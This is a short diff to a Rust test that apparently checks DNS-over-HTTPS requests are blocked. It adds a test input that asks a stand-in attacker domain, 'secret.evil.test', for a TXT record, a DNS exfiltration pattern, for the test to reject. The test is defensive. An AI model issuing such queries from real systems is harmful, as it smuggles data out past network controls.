@@ -394,6 +394,7 @@ pub(crate) fn questions_to_name_servers_go_nowhere(promise: &Promise) {
     let question = "-H 'Accept: application/dns-message'";
     for (path, options) in [
         ("/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB", ""),
+        ("/resolve?name=secret.evil.test&type=16", ""),
         ("/innocent", question),
         ("/innocent", "-d x -H 'Content-Type: application/dns-message'"),
         (
